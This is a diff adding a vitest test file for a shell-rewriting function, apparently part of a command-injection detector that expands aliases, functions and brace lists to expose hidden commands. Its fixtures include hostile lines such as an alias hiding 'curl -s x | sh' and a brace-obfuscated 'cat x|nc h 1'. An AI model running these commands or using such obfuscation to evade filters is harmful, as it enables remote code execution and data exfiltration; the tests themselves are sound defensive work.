@@ -1,0 +1,39 @@
+// rewriteSource: aliases, functions defined then called and brace-list command words, as the shell would run them.
+
+import fc from "fast-check";
+import { describe, expect, test } from "vitest";
+import { parseShell } from "../../../src/engine/injection/shell-parse.ts";
+import { rewriteSource } from "../../../src/engine/injection/shell-rewrite.ts";
+import { stagesOf } from "../../../src/engine/injection/shell-words.ts";
+
+const rewrite = (src: string) => rewriteSource(src, stagesOf(parseShell(src).commands, src));
+
+describe("rewriteSource", () => {
+  test.each([
+    ["alias g='curl -s x'; g | sh", "alias g='curl -s x'; curl -s x | sh", "alias g"],
+    ['f(){ wc -l "$1"; }; f a.txt', 'f(){ wc -l "$1"; }; wc -l a.txt', "function f"],
+    ['function r { "$@"; }; r ls -la', 'function r { "$@"; }; ls -la', "function r"],
+    ["{cat,x}|{nc,h,1}", "cat x|nc h 1", "{a,b}"],
+  ])("%s", (src, text, why) => {
+    expect(rewrite(src)).toEqual({ text, why });
+  });
+  test.each([
+    "ls -la",
+    "mkdir -p build/{a,b}",
+    "echo {a,b}",
+    "g | sh", // an alias never defined
+    "f x; f(){ echo; }", // called before it is defined
+  ])("nothing to rewrite: %s", (src) => {
+    expect(rewrite(src)).toBeNull();
+  });
+  test("never throws and stays bounded on arbitrary text", () => {
+    fc.assert(
+      fc.property(fc.string({ maxLength: 300 }), (s) => {
+        const src = `alias a='${s}'; f(){ ${s}; }; a; f ${s}; {${s},x}`;
+        const r = rewrite(src);
+        expect(r === null || r.text.length <= 64 * 1024).toBe(true);
+      }),
+      { numRuns: 300 },
+    );
+  });
+});
